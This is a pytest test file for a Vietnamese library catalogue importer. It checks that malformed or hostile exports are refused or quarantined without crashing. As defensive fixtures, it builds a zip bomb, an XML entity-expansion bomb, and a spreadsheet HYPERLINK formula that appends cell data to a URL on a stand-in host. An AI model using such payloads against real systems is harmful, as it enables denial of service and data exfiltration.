"""Files as old systems export them: whatever a library hands over is read, or refused in a sentence."""

from __future__ import annotations

import io
import json
import tracemalloc
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from lienthu.foundation.vietnamese.encodings import ENCODERS

pytestmark = pytest.mark.slow
Marc = Callable[..., bytes]


@pytest.fixture
def handed_over(shared_install: Any, tmp_path: Path) -> Callable[..., Any]:
    """``lienthu import`` of these bytes under this name."""

    def hand_over(data: bytes, name: str = "export.mrc", *more: str, library: str = "VN-A", source: str = "") -> Any:
        path = tmp_path / name
        path.write_bytes(data)
        source = source or f"s{abs(hash(tmp_path.name)) % 10**9}"
        return shared_install.lienthu("import", path, "--library", library, "--source", source, "--json", *more)

    return hand_over


def _adds_up(report: dict[str, Any]) -> bool:
    parts = ("created", "updated", "unchanged", "quarantined")
    return bool(report["read"] == sum(report[p] for p in parts))


def _titles(install: Any, report: dict[str, Any]) -> list[str]:
    rows = install.sql("SELECT marc FROM catalog_revision WHERE batch_id = %s ORDER BY record_id", report["batch"])
    titles = []
    for (text,) in rows:
        fields = json.loads(text)[1]
        titles += [dict(f[-1])["a"].rstrip(" :/") for f in fields if f[0] == "245"]
    return titles


def _batches(install: Any) -> int:
    return int(install.sql("SELECT count(*) FROM catalog_importbatch")[0][0])


# ------------------------------------------------------------------------------------------------ refused


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("empty.mrc", b""),
        ("zeros.mrc", b"\x00" * 5000),
        ("letter.txt", "Kính gửi Thư viện tỉnh\n\nXin gửi kèm danh mục sách của chúng tôi.\n".encode() * 40),
        ("picture.mrc", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20),
        ("book.xlsx", b"PK\x03\x04 this only looks like a workbook xl/ " * 30),
    ],
)
def test_what_is_no_catalogue_is_refused(handed_over: Any, shared_install: Any, name: str, data: bytes) -> None:
    before = _batches(shared_install)
    sentence = handed_over(data, name).refused()
    assert name.partition(".")[0] in sentence
    assert _batches(shared_install) == before, "a refused file leaves no batch that waits for ever"


def test_a_text_with_commas_is_refused_or_kept_aside(handed_over: Any) -> None:
    done = handed_over("Kính gửi Thư viện tỉnh,\nXin gửi kèm danh mục, và sách.\n".encode() * 20, "letter.txt")
    assert "Traceback" not in done.err
    if done.code == 2:
        done.refused()
    else:  # taken for a table without a title column: every line is kept aside with its reason
        report = done.json
        assert (done.code, report["created"]) == (1, 0)
        assert report["quarantined"] == report["read"] > 0


def test_a_zip_bomb_is_refused_before_it_is_unpacked(handed_over: Any, shared_install: Any) -> None:
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        with z.open("xl/worksheets/sheet1.xml", "w") as sheet:
            for _ in range(60):
                sheet.write(b"<c>0</c>" * 131_072)
    before = _batches(shared_install)
    handed_over(bomb.getvalue(), "bomb.xlsx").refused()
    assert _batches(shared_install) == before


def test_an_entity_bomb_is_refused(handed_over: Any) -> None:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    data = (
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "lol">{entities}]>'
        '<collection xmlns="http://www.loc.gov/MARC21/slim"><record><leader>00000nam a2200000   4500</leader>'
        '<datafield tag="245" ind1="0" ind2="0"><subfield code="a">&l9;</subfield></datafield></record></collection>'
    )
    done = handed_over(data.encode(), "bomb.xml")
    assert "Traceback" not in done.err
    if done.code == 2:
        done.refused()
        return
    # or taken as something unreadable, with nothing of it in the catalogue
    assert done.code == 1
    assert done.json["created"] == 0
    assert done.json["quarantined"] == done.json["read"] >= 1


@pytest.mark.parametrize(
    "arguments",
    [
        ("--library", "VN-NOWHERE"),
        ("--library", "VN-A", "--encoding", "klingon"),
        ("--library", "VN-A", "--mapping", "/nowhere/mapping.json"),
    ],
)
def test_unknown_names_are_refused(shared_install: Any, tmp_path: Path, marc_record: Marc, arguments: Any) -> None:
    path = tmp_path / "good.mrc"
    path.write_bytes(marc_record("1", "Đất mỏ"))
    before = _batches(shared_install)
    shared_install.lienthu("import", path, "--json", *arguments).refused()
    assert _batches(shared_install) == before


def test_a_folder_or_nothing_as_file_is_refused(shared_install: Any, tmp_path: Path) -> None:
    shared_install.lienthu("import", tmp_path, "--library", "VN-A", "--json").refused()
    shared_install.lienthu("import", tmp_path / "absent.mrc", "--library", "VN-A", "--json").refused()


def test_a_mapping_that_is_no_mapping_is_refused(shared_install: Any, tmp_path: Path) -> None:
    (tmp_path / "books.csv").write_text("Nhan đề;Tác giả\nĐất mỏ;Võ Huy Tâm\nVùng mỏ;Võ Huy Tâm\n")
    (tmp_path / "mapping.json").write_text("{not json")
    shared_install.lienthu(
        "import", tmp_path / "books.csv", "--library", "VN-A", "--mapping", tmp_path / "mapping.json", "--json"
    ).refused()


def test_a_bad_file_among_good_ones_leaves_the_good_ones_searchable(
    shared_install: Any, tmp_path: Path, marc_record: Marc
) -> None:
    (tmp_path / "good.mrc").write_bytes(marc_record("g1", "Chuyện lạ thời khẩn hoang"))
    (tmp_path / "bad.mrc").write_bytes(b"")
    done = shared_install.lienthu(
        "import", tmp_path / "good.mrc", tmp_path / "bad.mrc", "--library", "VN-A", "--source", "among", "--json"
    )
    assert done.code == 2
    assert "Traceback" not in done.err
    held = shared_install.sql("SELECT count(*) FROM catalog_bibrecord WHERE control_number = 'g1'")[0][0]
    found = shared_install.lienthu("search", "khẩn hoang", "--json").json["total"]
    assert found == held, "what was imported before the refusal is in the catalogue but not in the index"


# ------------------------------------------------------------------------------------------------ read as far as can be


def test_two_gigabytes_in_a_leader_are_a_claim_only(handed_over: Any, shared_install: Any, marc_record: Marc) -> None:
    lying = marc_record("1", "Vùng mỏ")
    lying = b"2147483648"[:5] + lying[5:]
    absurd = b"99999nam a2299999   4500" + b"24599999999999" * 3 + b"\x1e" + b"\x1d"
    done = handed_over(marc_record("0", "Đất mỏ") + lying + absurd + marc_record("2", "Người thợ lò"))
    report = done.json
    assert _adds_up(report)
    assert _titles(shared_install, report) == ["Đất mỏ", "Vùng mỏ", "Người thợ lò"]
    assert report["quarantined"] == 1
    assert done.code == 1, "exit code 1 says: something was put into quarantine"


def test_a_huge_record_length_does_not_reserve_memory(tmp_path: Path, marc_record: Marc) -> None:
    from lienthu.domain.catalog.encoding import EncodingPlan
    from lienthu.domain.catalog.reading import pieces

    path = tmp_path / "one.mrc"
    path.write_bytes(b"99999" + marc_record("1", "Vùng mỏ")[5:] + b"99999nam a2299999   4500")
    tracemalloc.start()
    list(pieces(path, "iso2709", EncodingPlan("utf-8"), {}))
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 30_000_000


def test_stray_bytes_a_cut_end_and_empty_records(handed_over: Any, shared_install: Any, marc_record: Marc) -> None:
    data = (
        b"\xef\xbb\xbf\r\n" + marc_record("1", "Một") + b"\r\n\x1a\x00\x00" + marc_record("2", "Hai") + b"\x1d\x1d"
        + b"rubbish between \xff\xfe records " + marc_record("3", "Ba") + b"00000\x1d" + marc_record("4", "Bốn")
        + marc_record("5", "Năm mươi năm thư viện", ("260", "  ", "$aHà Nội$c1999"))[:-14]
    )  # fmt: skip
    done = handed_over(data)
    report = done.json
    assert _adds_up(report)
    assert _titles(shared_install, report)[:4] == ["Một", "Hai", "Ba", "Bốn"]
    assert "Traceback" not in done.err
    kept = b"".join(
        bytes(raw)
        for (raw,) in shared_install.sql(
            "SELECT raw FROM catalog_revision WHERE batch_id = %(b)s UNION ALL"
            " SELECT raw FROM catalog_quarantined WHERE batch_id = %(b)s".replace("%(b)s", str(report["batch"]))
        )
    )
    assert "Năm mươi năm thư viện".encode() in kept, "a record cut off at the end is read or kept in quarantine"


def test_repeated_control_numbers_are_reported_and_the_later_counts(
    handed_over: Any, shared_install: Any, marc_record: Marc
) -> None:
    data = b"".join(
        [
            marc_record("1", "Bản đầu"),
            marc_record("2", "Khác"),
            marc_record("1", "Bản sau"),
            marc_record("1", "Bản sau"),
        ]
    )
    report = handed_over(data).json
    assert _adds_up(report)
    assert (report["read"], report["created"], report["updated"], report["unchanged"]) == (4, 2, 1, 1)
    rows = shared_install.sql(
        "SELECT repeated, (problem_counts->>'repeated-control-number')::int FROM catalog_importbatch WHERE id = %s",
        report["batch"],
    )
    assert rows == [(2, 2)]
    shown = shared_install.sql(
        "SELECT ordinal FROM catalog_batchproblem WHERE batch_id = %s AND code = 'repeated-control-number' ORDER BY 1",
        report["batch"],
    )
    assert shown == [(2,), (3,)]
    current = shared_install.sql(
        "SELECT v.marc FROM catalog_bibrecord r JOIN catalog_revision v ON v.record_id = r.id AND v.number = r.revision"
        " WHERE r.control_number = '1' AND v.batch_id = %s",
        report["batch"],
    )
    assert len(current) == 1
    assert "Bản sau" in current[0][0]


def test_a_dry_run_says_what_the_import_will_say(handed_over: Any, marc_record: Marc) -> None:
    data = marc_record("1", "A") + marc_record("1", "B") + b"00000nam\x1d" + marc_record("", "Không số") * 2
    names = ("read", "created", "updated", "unchanged", "quarantined", "repaired")
    dry = handed_over(data, "x.mrc", "--dry-run").json
    real = handed_over(data, "x.mrc").json
    assert {n: dry[n] for n in names} == {n: real[n] for n in names}


def test_several_encodings_in_one_file(handed_over: Any, shared_install: Any, marc_record: Marc) -> None:
    titles = [
        "Lịch sử phong trào công nhân mỏ Quảng Ninh", "Đường vào thư viện", "Những người thợ lò dũng cảm",
        "Vịnh Hạ Long di sản thiên nhiên thế giới", "Truyện cổ tích các dân tộc", "Kỷ yếu hội thảo khoa học",
    ]  # fmt: skip
    data = b""
    for n, title in enumerate(titles):
        raw = marc_record(str(n), title)
        if n % 2:
            plain = marc_record(str(n), "@").split(b"@")
            raw = plain[0] + ENCODERS["tcvn3"](title) + plain[1]
        data += raw
    report = handed_over(data).json
    assert _adds_up(report)
    assert _titles(shared_install, report) == titles


def test_a_table_in_tcvn3_with_semicolons(handed_over: Any, shared_install: Any) -> None:
    text = (
        "Số ĐKCB;Nhan đề;Tác giả;Nhà xuất bản;Năm xuất bản\r\n"
        "QN001;Đất mỏ;Võ Huy Tâm;Văn học;1961\r\n"
        'QN002;"Vùng mỏ; tiểu thuyết";Võ Huy Tâm;Văn nghệ;1951\r\n'
        "QN003;Lịch sử Đảng bộ tỉnh Quảng Ninh;Nhiều tác giả;Chính trị quốc gia;2010\r\n"
    )
    report = handed_over(ENCODERS["tcvn3"](text), "so-dang-ky.csv").json
    assert report["encoding"] == "tcvn3"
    assert (report["read"], report["created"]) == (3, 3)
    titles = _titles(shared_install, report)
    assert titles == ["Đất mỏ", "Vùng mỏ; tiểu thuyết", "Lịch sử Đảng bộ tỉnh Quảng Ninh"]


def test_formulas_are_never_evaluated(handed_over: Any, shared_install: Any) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["Nhan đề", "Tác giả", "Năm xuất bản"])
    sheet.append(['=HYPERLINK("http://x.example/?"&A1,"x")', "Võ Huy Tâm", "=1900+61"])
    sheet.append(["Vùng mỏ", "Võ Huy Tâm", 1951])
    out = io.BytesIO()
    book.save(out)
    done = handed_over(out.getvalue(), "sach.xlsx")
    assert "Traceback" not in done.err
    report = done.json
    assert _adds_up(report)
    assert report["read"] == 2
    assert "Vùng mỏ" in _titles(shared_install, report)
    texts = shared_install.sql("SELECT marc FROM catalog_revision WHERE batch_id = %s", report["batch"])
    assert not any("HYPERLINK" in t or "1961" in t for (t,) in texts)
    counts = shared_install.sql("SELECT problem_counts FROM catalog_importbatch WHERE id = %s", report["batch"])
    assert "formula-without-value" in counts[0][0]


def test_a_file_name_in_an_old_encoding(shared_install: Any, tmp_path: Path, marc_record: Marc) -> None:
    name = bytes(tmp_path) + b"/S\xb8ch th\xad vi\xd6n.mrc"  # TCVN3, as an old machine wrote it
    with open(name, "wb") as f:
        f.write(marc_record("1", "Sách thư viện"))
    done = shared_install.lienthu("import", name, "--library", "VN-A", "--source", "oldname", "--json")
    assert "Traceback" not in done.err, done.err[-600:]
    assert done.code == 0
    assert done.json["created"] == 1


def test_after_all_that_everything_reconciles(shared_install: Any) -> None:
    shared_install.assert_counts_reconcile()
    shared_install.assert_index_agrees()
